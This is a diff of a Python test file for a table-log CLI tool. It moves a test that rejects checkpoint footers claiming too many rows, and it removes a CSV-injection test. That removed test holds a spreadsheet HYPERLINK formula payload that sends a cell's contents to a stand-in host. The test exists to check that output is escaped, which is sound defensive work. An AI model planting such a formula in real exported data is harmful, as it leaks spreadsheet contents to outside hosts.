@@ -162,6 +162,21 @@ def _varint(number: int) -> bytes:
     return bytes([*(part | 0x80 for part in parts[:-1]), parts[-1]])
 
 
+@pytest.mark.parametrize("rows", [10**7, 10**18])
+def test_a_footer_of_too_many_rows_is_refused_before_they_are_looked_for(
+    tmp_path: Path, rows: int
+) -> None:
+    builder = build(tmp_path / "t")
+    builder.checkpoint()
+    (checkpoint,) = list_log(builder.store).checkpoints
+    (name,) = checkpoint.names
+    read_head(builder.store, checkpoint)
+    builder.store.put(name, count_more_rows(builder.store.read(name), rows))
+    with pytest.raises(Exception, match=f"says {rows} rows") as caught:
+        read_head(builder.store, checkpoint)
+    assert type(caught.value).__name__ == "CorruptLogError"
+
+
 @pytest.mark.slow
 @pytest.mark.usefixtures("in_time")
 def test_commands_read_a_line_of_8_mib(tmp_path: Path, deltactl: Cli) -> None:
@@ -264,30 +279,3 @@ def test_a_link_in_the_place_of_a_folder_is_not_written_through(
     ran = deltactl(command, str(root))
     assert ran.code in (0, 6), ran.err
     assert contents(outside) == before
-
-
-# -- text ---------------------------------------------------------------------------------------
-
-
-def test_a_user_name_is_no_formula_in_csv(tmp_path: Path, deltactl: Cli) -> None:
-    builder = build(tmp_path / "t")
-    builder.commit(userName='=HYPERLINK("http://example.invalid/?"&A1)')
-    ran = deltactl("describe-history", str(tmp_path / "t"), "-o", "csv")
-    assert ran.code == 0
-    assert "'=HYPERLINK" in ran.out
-    assert ",=HYPERLINK" not in ran.out and ',"=HYPERLINK' not in ran.out
-
-
-@pytest.mark.parametrize("rows", [10**7, 10**18])
-def test_a_footer_of_too_many_rows_is_refused_before_they_are_looked_for(
-    tmp_path: Path, rows: int
-) -> None:
-    builder = build(tmp_path / "t")
-    builder.checkpoint()
-    (checkpoint,) = list_log(builder.store).checkpoints
-    (name,) = checkpoint.names
-    read_head(builder.store, checkpoint)
-    builder.store.put(name, count_more_rows(builder.store.read(name), rows))
-    with pytest.raises(Exception, match=f"says {rows} rows") as caught:
-        read_head(builder.store, checkpoint)
-    assert type(caught.value).__name__ == "CorruptLogError"
